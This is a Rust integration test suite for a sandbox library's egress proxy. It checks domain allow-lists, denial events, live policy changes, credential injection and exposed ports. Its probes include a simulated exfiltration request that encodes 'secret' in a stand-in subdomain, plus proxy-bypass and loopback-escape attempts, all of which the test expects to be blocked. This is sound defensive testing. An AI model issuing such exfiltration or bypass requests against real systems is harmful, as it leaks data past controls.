//! Egress policies, their events and live changes, injected credentials and exposed ports, on
//! every runtime, against real servers on the host's loopback and real clients in the sandbox
//! (curl, Python's urllib, busybox wget).

mod common;

use std::time::Duration;

use common::TestSandbox;
use common::egress::{LOOPBACK, Upstream, drain, egress};
use futures::StreamExt;
use oci_sandbox::{
    EgressDecision, EgressEvent, EgressPolicy, ExecConfig, SandboxConfig, SandboxError,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Runs `script` in a new exec of `sandbox`; returns its stdout.
async fn sh(sandbox: &oci_sandbox::Sandbox, script: &str) -> String {
    let out = sandbox
        .exec(&ExecConfig::new("sh", vec!["-c".into(), script.into()]))
        .await
        .unwrap()
        .wait_with_output()
        .await
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn lines(out: &str) -> std::collections::BTreeMap<String, String> {
    out.lines()
        .filter_map(|l| l.split_once(": "))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect()
}

async fn allowed_hosts_are_reached_and_everything_else_refused(kind: oci_sandbox::OciRuntime) {
    let t = TestSandbox::new(kind).await;
    let up = Upstream::start().await;
    let p = up.port;
    let policy = EgressPolicy::new()
        .allow_domain("allowed.test")
        .allow_domain("*.wild.test")
        .resolve("allowed.test", &[LOOPBACK])
        .resolve("api.wild.test", &[LOOPBACK]);
    let sandbox = t.start_sandbox(&egress(policy)).await;
    let mut events = sandbox.egress_events();
    let script = format!(
        r#"
code() {{ curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; echo " rc=$?"; }}
echo "curl: $(curl -s --max-time 10 http://allowed.test:{p}/curl)"
echo "tunnel: $(curl -s --max-time 10 --proxytunnel http://allowed.test:{p}/tunnel)"
echo "wild: $(curl -s --max-time 10 http://api.wild.test:{p}/wild)"
echo "python: $(python3 -c 'import urllib.request; print(urllib.request.urlopen("http://allowed.test:{p}/python", timeout=10).read().decode().strip())')"
echo "wget: $(busybox wget -q -O - http://allowed.test:{p}/wget)"
echo "denied-name: $(code http://denied.test:{p}/)"
echo "denied-tunnel: $(curl -s -o /dev/null -w '%{{http_connect}}' --max-time 10 --proxytunnel http://denied.test:{p}/)"
echo "ip-literal: $(code http://192.0.2.1:{p}/)"
echo "ipv6: $(code 'http://[2001:db8::1]:{p}/')"
echo "host-loopback: $(NO_PROXY= no_proxy= code http://127.0.0.1:{p}/)"
echo "host-loopback-v6: $(NO_PROXY= no_proxy= code 'http://[::1]:{p}/')"
echo "exfil: $(code http://c2VjcmV0.exfil.test/)"
echo "direct: $(code --noproxy '*' http://192.0.2.1:{p}/)"
echo "direct-loopback: $(code --noproxy '*' http://127.0.0.1:{p}/)"
echo "direct-v6: $(code --noproxy '*' 'http://[::1]:{p}/')"
echo "dns: $(getent hosts allowed.test >/dev/null 2>&1 && echo resolved || echo none)"
echo "dns-python: $(python3 -c 'import socket; socket.getaddrinfo("example.com", 80)' >/dev/null 2>&1 && echo resolved || echo none)"
echo "raw-connect: $(python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT denied.test:{p} HTTP/1.1\r\nHost: denied.test\r\n\r\n")
print(s.recv(100).split(b"\r\n")[0].decode())')"
"#
    );
    let out = sh(&sandbox, &script).await;
    let got = lines(&out);
    let want = [
        ("curl", "hello from upstream /curl".to_owned()),
        ("tunnel", "hello from upstream /tunnel".to_owned()),
        ("wild", "hello from upstream /wild".to_owned()),
        ("python", "hello from upstream /python".to_owned()),
        ("wget", "hello from upstream /wget".to_owned()),
        ("denied-name", "403 rc=0".to_owned()),
        ("denied-tunnel", "403".to_owned()),
        ("ip-literal", "403 rc=0".to_owned()),
        ("ipv6", "403 rc=0".to_owned()),
        ("host-loopback", "403 rc=0".to_owned()),
        ("host-loopback-v6", "403 rc=0".to_owned()),
        ("exfil", "403 rc=0".to_owned()),
        // No route out but the proxy: no network, and nothing on the sandbox's own loopback.
        ("direct", "000 rc=7".to_owned()),
        ("direct-loopback", "000 rc=7".to_owned()),
        ("direct-v6", "000 rc=7".to_owned()),
        ("dns", "none".to_owned()),
        ("dns-python", "none".to_owned()),
        ("raw-connect", "HTTP/1.1 403 Forbidden".to_owned()),
    ];
    for (k, v) in want {
        assert_eq!(got.get(k), Some(&v), "{k} in:\n{out}");
    }
    // The upstream saw the allowed requests only.
    let paths: Vec<String> = up
        .heads()
        .iter()
        .map(|h| h.split_whitespace().nth(1).unwrap().to_owned())
        .collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(
        sorted,
        ["/curl", "/python", "/tunnel", "/wget", "/wild"],
        "{paths:?}"
    );
    // One event per decision: five allowed (with bytes both ways), eight denied, nothing
    // resolved or connected for a denied one.
    let events = drain(&mut events, 13).await;
    let allowed: Vec<&EgressEvent> = events.iter().filter(|e| e.decision.is_allowed()).collect();
    let denied: Vec<&EgressEvent> = events
        .iter()
        .filter(|e| matches!(e.decision, EgressDecision::Denied { .. }))
        .collect();
    assert_eq!(allowed.len(), 5, "{events:#?}");
    assert_eq!(denied.len(), 8, "{events:#?}");
    for e in &allowed {
        assert!(e.bytes_sent > 0 && e.bytes_received > 0, "{e:?}");
        assert_eq!(e.address.map(|a| a.port()), Some(p));
        assert_eq!(e.sandbox, sandbox.id());
    }
    assert!(
        allowed
            .iter()
            .any(|e| e.method == "CONNECT" && e.host == "allowed.test")
    );
    let exfil = denied
        .iter()
        .find(|e| e.host == "c2VjcmV0.exfil.test".to_ascii_lowercase())
        .expect("the exfiltration attempt is reported");
    assert_eq!(exfil.address, None);
    for host in [
        "denied.test",
        "192.0.2.1",
        "[2001:db8::1]",
        "127.0.0.1",
        "[::1]",
    ] {
        assert!(denied.iter().any(|e| e.host == host), "{host}: {denied:#?}");
    }
    sandbox.close().await;
    t.assert_nothing_left(&[], None).await;
}

async fn the_policy_changes_live_and_credentials_stay_outside(kind: oci_sandbox::OciRuntime) {
    let t = TestSandbox::new(kind).await;
    let up = Upstream::start().await;
    let p = up.port;
    let base = EgressPolicy::new()
        .allow_domain("api.test")
        .resolve("api.test", &[LOOPBACK])
        .resolve("later.test", &[LOOPBACK])
        .inject_header_ports("api.test", &[p], "Authorization", "Bearer s3cret-token");
    let sandbox = t.start_sandbox(&egress(base.clone())).await;
    let code = |host: &str| {
        format!("curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{host}:{p}/{host}")
    };
    assert_eq!(sh(&sandbox, &code("later.test")).await, "403");
    sandbox
        .set_egress(base.clone().allow_domain("later.test"))
        .unwrap();
    assert_eq!(sh(&sandbox, &code("later.test")).await, "200");
    // A bad policy is refused and the current one stays.
    let err = sandbox
        .set_egress(EgressPolicy::new().allow_domain("*"))
        .unwrap_err();
    assert!(matches!(err, SandboxError::InvalidConfig { ref field, .. } if field == "network"));
    assert_eq!(sh(&sandbox, &code("later.test")).await, "200");
    sandbox.set_egress(base).unwrap();
    assert_eq!(sh(&sandbox, &code("later.test")).await, "403");
    // The credential: set by the proxy on the way out, over the sandbox's placeholder; the
    // sandbox's environment and its other destinations never see it.
    let out = sh(
        &sandbox,
        &format!(
            "curl -s --max-time 10 -H 'Authorization: placeholder' http://api.test:{p}/cred; \
             env | grep -c s3cret"
        ),
    )
    .await;
    assert_eq!(out, "hello from upstream /cred\n0\n");
    let heads = up.heads();
    let cred = heads.iter().find(|h| h.contains("/cred")).unwrap();
    assert!(
        cred.contains("Authorization: Bearer s3cret-token\r\n"),
        "{cred}"
    );
    assert!(!cred.contains("placeholder"), "{cred}");
    let later = heads.iter().find(|h| h.contains("/later.test")).unwrap();
    assert!(!later.contains("s3cret"), "{later}");
    sandbox.close().await;
    t.assert_nothing_left(&[], None).await;
}

async fn an_exposed_port_serves_the_host(kind: oci_sandbox::OciRuntime) {
    let t = TestSandbox::new(kind).await;
    let sandbox = t.start_sandbox(&SandboxConfig::default()).await;
    let server = ExecConfig::new(
        "sh",
        vec![
            "-c".into(),
            "mkdir -p /tmp/site && echo 'served from the sandbox' > /tmp/site/index.html && \
             cd /tmp/site && exec python3 -m http.server --bind 127.0.0.1 8000"
                .into(),
        ],
    );
    let job = sandbox
        .spawn_job(&server, oci_sandbox::OutputMode::Combined)
        .await
        .unwrap();
    let addr = sandbox.expose(8000).await.unwrap();
    assert!(addr.ip().is_loopback());
    let get = || async move {
        let mut s = tokio::net::TcpStream::connect(addr).await.ok()?;
        s.write_all(b"GET /index.html HTTP/1.0\r\n\r\n")
            .await
            .ok()?;
        let mut body = String::new();
        s.read_to_string(&mut body).await.ok()?;
        Some(body)
    };
    // The server takes a moment to listen: until then a connection is closed at once. (It
    // starts a thread per request: on gVisor that needs clone3's ENOSYS, see spec/seccomp.rs.)
    let mut body = None;
    for _ in 0..100 {
        body = get().await.filter(|b| b.contains("200 OK"));
        if body.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let body = body.expect("the exposed server answered");
    assert!(body.ends_with("served from the sandbox\n"), "{body}");
    // Ten at once.
    let many = futures::future::join_all((0..10).map(|_| get())).await;
    assert!(
        many.iter()
            .all(|b| b.as_deref().is_some_and(|b| b.contains("served")))
    );
    assert!(matches!(
        sandbox.expose(0).await,
        Err(SandboxError::InvalidConfig { .. })
    ));
    sandbox.close().await;
    // The listener closed with the sandbox.
    let mut closed = false;
    for _ in 0..50 {
        if tokio::net::TcpStream::connect(addr).await.is_err() {
            closed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(closed, "{addr} still accepts after close");
    drop(job);
    t.assert_nothing_left(&[], None).await;
}

async fn bad_policies_are_typed_errors_and_leave_nothing(kind: oci_sandbox::OciRuntime) {
    let t = TestSandbox::new(kind).await;
    for policy in [
        EgressPolicy::new().allow_domain(""),
        EgressPolicy::new().allow_domain("*"),
        EgressPolicy::new().allow_cidr("10.0.0.0/40"),
        EgressPolicy::new().allow_cidr("nonsense"),
    ] {
        let config = t.config_with(&egress(policy), "true", &[]);
        match t.sandbox.spawn(&config).await {
            Err(SandboxError::InvalidConfig { field, .. }) => assert_eq!(field, "network"),
            Err(e) => panic!("expected InvalidConfig on network, got {e:?}"),
            Ok(_) => panic!("a bad policy was accepted"),
        }
    }
    // A sandbox without a proxy has none to change, and no events.
    let sandbox = t.start_sandbox(&SandboxConfig::default()).await;
    assert!(matches!(
        sandbox.set_egress(EgressPolicy::new()),
        Err(SandboxError::InvalidConfig { .. })
    ));
    assert!(sandbox.egress_events().next().await.is_none());
    sandbox.close().await;
    // A one-shot spawn with a policy: the command gets the proxy.
    let up = Upstream::start().await;
    let policy = EgressPolicy::new()
        .allow_domain("one.test")
        .resolve("one.test", &[LOOPBACK]);
    let out = t
        .output(
            &egress(policy),
            &[
                "sh",
                "-c",
                &format!("curl -s --max-time 10 http://one.test:{}/once", up.port),
            ],
        )
        .await;
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello from upstream /once\n"
    );
    t.assert_nothing_left(&[], None).await;
}

on_every_runtime!(
    allowed_hosts_are_reached_and_everything_else_refused,
    the_policy_changes_live_and_credentials_stay_outside,
    an_exposed_port_serves_the_host,
    bad_policies_are_typed_errors_and_leave_nothing,
);
